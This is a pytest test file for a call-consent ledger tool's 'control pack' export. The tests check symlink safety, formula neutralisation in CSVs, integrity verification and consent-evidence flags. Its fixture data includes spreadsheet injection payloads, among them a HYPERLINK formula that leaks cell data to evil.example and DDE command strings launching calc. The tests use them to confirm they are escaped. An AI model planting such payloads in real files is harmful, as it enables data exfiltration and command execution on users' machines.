"""The control pack, hardened: it never writes through a planted link, its CSVs run no formula,
a missing extra stops it before anything is written, its verification lists every problem and
the calls they touch, it carries the checkpoints given, and it flags thin consent evidence."""

from __future__ import annotations

import csv
import importlib.util
import json
import sqlite3
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from callguard import Guard
from callguard._checkpoint import create_signing_key
from callguard._control import control_pack
from callguard._evidence import consent_flags
from callguard.cli import cli
from conftest import NPV, paris

pytest.importorskip("matplotlib", reason='the report needs matplotlib: pip install ".[report]"')

AT = paris(2026, 11, 24, 10, 30)
A, B, C = "06 12 34 56 78", "06 98 76 54 32", "06 11 22 33 44"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
)
PERIOD = ("--from", "2026-11-01", "--to", "2026-11-30")


def run(*args: str) -> Any:
    return CliRunner().invoke(cli, list(args))


@pytest.fixture
def db(tmp_path: Path) -> str:
    path = str(tmp_path / "ledger.db")
    with Guard(path, professional="acme") as g:
        g.record_consent(A, AT - timedelta(days=30), proof=FORMULAS[1], source=FORMULAS[2],
                         wording="I agree to be called by ACME", proof_sha256="ab" * 32,
                         channel="web")  # fmt: skip
        g.record_consent(B, AT - timedelta(days=20), proof="form 2", source="leadvendor.example",
                         wording="I agree to be called by our partners")  # fmt: skip
        g.record_consent(C, AT - timedelta(days=10), proof="call 3", source="acme",
                         proof_sha256="cd" * 32, wording="Oui, ACME peut m'appeler")  # fmt: skip
        g.record_call(A, AT, caller_id=NPV, campaign=FORMULAS[0])
        g.record_call(B, AT + timedelta(hours=1), caller_id=NPV, campaign=FORMULAS[4])
        g.record_call(C, AT + timedelta(hours=2), caller_id=NPV, outcome="REFUSED")
        g.lift_refusal(C, AT + timedelta(hours=3), reason=FORMULAS[3], by=FORMULAS[0])
    return path


def pack(db: str, out: Path, *extra: str) -> Any:
    return run("control-pack", "--out", str(out), "--db", db, "--professional", "acme",
               *PERIOD, *extra)  # fmt: skip


# -- links and folders ----------------------------------------------------------------------------


def test_a_link_planted_in_the_folder_is_never_written_through(db: str, tmp_path: Path) -> None:
    out, victims = tmp_path / "pack", tmp_path / "victims"
    out.mkdir()
    victims.mkdir()
    names = ("report.html", "calls.csv", "consents.json", "manifest.json", "verification.json")
    for name in names:
        (victims / name).write_text("precious")
        (out / name).symlink_to(victims / name)
    result = pack(db, out)
    assert result.exit_code == 0, result.output
    for name in names:
        assert (victims / name).read_text() == "precious"
        assert (out / name).is_file() and not (out / name).is_symlink()
    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]


def test_a_folder_that_is_a_link_or_a_file_is_refused(db: str, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "link").symlink_to(elsewhere)
    result = pack(db, tmp_path / "link")
    assert result.exit_code == 2 and "symbolic link" in result.output
    assert list(elsewhere.iterdir()) == []
    (tmp_path / "file").write_text("x")
    result = pack(db, tmp_path / "file")
    assert result.exit_code == 2 and "not a folder" in result.output
    assert (tmp_path / "file").read_text() == "x"


def test_a_directory_where_a_file_goes_is_an_error_not_a_traceback(db: str, tmp_path: Path) -> None:
    out = tmp_path / "pack"
    (out / "report.html").mkdir(parents=True)
    result = pack(db, out)
    assert result.exit_code == 2 and "report.html" in result.output
    assert "Traceback" not in result.output


# -- formulas -------------------------------------------------------------------------------------


def test_no_csv_cell_is_a_formula(db: str, tmp_path: Path) -> None:
    out = tmp_path / "pack"
    assert pack(db, out).exit_code == 0
    cells = []
    for path in out.glob("*.csv"):
        with path.open(encoding="utf-8-sig") as f:
            cells += [cell for row in csv.reader(f, delimiter=";") for cell in row]
    for formula in FORMULAS:
        assert formula not in cells
        assert "'" + formula in cells or formula == "@SUM(1+1)*cmd|' /C calc'!A0"
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(c.replace(" ", "").lstrip("+-").replace(":", "").isdigit() for c in risky), risky
    # The JSON files keep the values as written (JSON runs nothing).
    calls = json.loads((out / "calls.json").read_text())
    assert {c["campaign"] for c in calls} >= {FORMULAS[0], FORMULAS[4]}


# -- the report extra -----------------------------------------------------------------------------


def test_without_matplotlib_one_line_exit_2_and_nothing_written(
    db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = importlib.util.find_spec

    def find_spec(name: str, *args: Any) -> Any:
        return None if name == "matplotlib" else real(name, *args)

    monkeypatch.setattr(importlib.util, "find_spec", find_spec)
    out = tmp_path / "pack"
    result = pack(db, out)
    assert result.exit_code == 2
    assert result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and 'pip install "callguard-fr[report]"' in lines[0]
    assert not out.exists()


# -- the verification -----------------------------------------------------------------------------


def test_every_problem_is_listed_and_the_calls_touched_are_counted(db: str, tmp_path: Path) -> None:
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE attempts SET caller_id = '0948000000' WHERE campaign = '=1+1'")
        conn.execute("UPDATE consents SET proof = 'forged' WHERE proof = 'call 3'")
    out = tmp_path / "pack"
    result = pack(db, out)
    assert result.exit_code == 0
    assert "ALTERED, 2 calls affected" in result.output
    verification = json.loads((out / "verification.json").read_text())
    assert {p["table"] for p in verification["problems"]} == {"attempts", "consents"}
    assert verification["affected_calls"] == 2
    page = (out / "report.html").read_text()
    assert "Problems found (2)" in page or "Problèmes constatés (2)" in page
    assert "affected: 2" in page or "concernés : 2" in page


def test_a_journal_problem_touches_every_call(db: str, tmp_path: Path) -> None:
    with sqlite3.connect(db) as conn:
        conn.execute("DELETE FROM journal WHERE chain = 'p1' AND seq = 2")
    out = tmp_path / "pack"
    assert pack(db, out).exit_code == 0
    verification = json.loads((out / "verification.json").read_text())
    assert verification["problems"][0]["kind"] == "journal"
    assert verification["affected_calls"] == 3


def test_a_fact_inserted_outside_callguard_touches_its_numbers_calls(
    db: str, tmp_path: Path
) -> None:
    with sqlite3.connect(db) as conn:
        # The lift of C's refusal loses its journal entry: only C's call is touched.
        conn.execute("DELETE FROM journal WHERE id = (SELECT max(id) FROM journal)")
    out = tmp_path / "pack"
    assert pack(db, out).exit_code == 0
    verification = json.loads((out / "verification.json").read_text())
    assert verification["problems"][0]["table"] == "lifts"
    assert verification["affected_calls"] == 1


def test_checkpoints_given_are_verified_copied_and_anchor_the_page(db: str, tmp_path: Path) -> None:
    key = tmp_path / "k.pem"
    create_signing_key(key)
    with Guard(db, professional="acme") as g:
        taken = g.checkpoint(key, tmp_path / "cps", now=AT + timedelta(hours=4))
        g.record_call(A, AT + timedelta(hours=5), caller_id=NPV)
        out = tmp_path / "pack"
        done = control_pack(g, out, start=AT.date() - timedelta(days=23), end=AT.date(),
                            lang="fr", checkpoints=tmp_path / "cps",
                            public_key=f"{key}.pub")  # fmt: skip
    assert done.anchored and done.verified
    assert (out / "checkpoints" / taken.name).read_bytes() == taken.read_bytes()
    assert (out / "checkpoints" / "public-key.pem").read_bytes() == Path(f"{key}.pub").read_bytes()
    manifest = json.loads((out / "manifest.json").read_text())
    assert f"checkpoints/{taken.name}" in manifest["files"]
    verification = json.loads((out / "verification.json").read_text())
    assert verification["checkpoints"][0]["ok"] is True
    page = (out / "report.html").read_text()
    assert "Journal intact depuis le point de contrôle du 24/11/2026 14:30:00" in page
    # Without checkpoints the page says what the chain alone cannot show.
    with Guard(db, professional="acme") as g:
        plain = control_pack(g, tmp_path / "plain", start=AT.date(), end=AT.date(), lang="fr")
    assert plain.verified and not plain.anchored
    text = (tmp_path / "plain" / "report.html").read_text()
    assert "sans point de contrôle" in text and "Journal intact" not in text


def test_a_failing_checkpoint_makes_the_pack_altered(db: str, tmp_path: Path) -> None:
    key = tmp_path / "k.pem"
    create_signing_key(key)
    result = run("checkpoint", "--db", db, "--signing-key", str(key), "--out", str(tmp_path / "c"))
    path = Path(result.output.strip())
    doc = json.loads(path.read_text())
    doc["heads"]["p1"]["seq"] += 1
    path.write_text(json.dumps(doc))
    out = tmp_path / "pack"
    result = pack(db, out, "--checkpoints", str(tmp_path / "c"), "--public-key", f"{key}.pub")
    assert result.exit_code == 0 and "ALTERED, 3 calls affected" in result.output
    verification = json.loads((out / "verification.json").read_text())
    assert verification["problems"][0]["kind"] == "checkpoint"
    assert path.name in verification["problems"][0]["detail"]


# -- consent evidence -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("row", "flags"),
    [
        ({"wording": "ACME may call me", "proof_sha256": "ab"}, []),
        ({"proof_sha256": "ab"}, ["NO_WORDING"]),
        ({"wording": "ACME may call me"}, ["NO_PROOF_DIGEST"]),
        (
            {"wording": "our partners may call", "proof_sha256": "ab", "source": "leads.example"},
            ["VENDOR_WITHOUT_PROFESSIONAL"],
        ),
        ({"wording": "Acme SAS may call", "proof_sha256": "ab", "source": "leads.example"}, []),
        ({"wording": "we may call", "proof_sha256": "ab", "source": "ACME"}, []),
        (
            {"source": "leads.example"},
            ["NO_WORDING", "NO_PROOF_DIGEST", "VENDOR_WITHOUT_PROFESSIONAL"],
        ),
    ],
)
def test_thin_consent_evidence_is_flagged(row: dict[str, str], flags: list[str]) -> None:
    assert consent_flags(row, "acme") == flags


def test_flags_show_in_the_pack_and_the_consent_list(db: str, tmp_path: Path) -> None:
    out = tmp_path / "pack"
    result = pack(db, out, "--json")
    assert result.exit_code == 0
    assert json.loads(result.stdout)["thin_consents"] == 1
    consents = {c["number"]: c for c in json.loads((out / "consents.json").read_text())}
    assert consents["+33698765432"]["flags"] == "NO_PROOF_DIGEST VENDOR_WITHOUT_PROFESSIONAL"
    assert consents["+33612345678"]["flags"] == ""
    page = (out / "report.html").read_text()
    assert 'data-flag="VENDOR_WITHOUT_PROFESSIONAL"' in page
    listed = run("consent", "list", "--db", db, "--professional", "acme", "--json")
    rows: list[dict[str, Any]] = json.loads(listed.output)
    assert [r["flags"] for r in rows] == ["", "NO_PROOF_DIGEST VENDOR_WITHOUT_PROFESSIONAL", ""]
    text = run("consent", "list", "--db", db, "--professional", "acme").output
    assert "flags" in text.splitlines()[0]
    assert "VENDOR_WITHOUT_PROFESSIONAL" in text
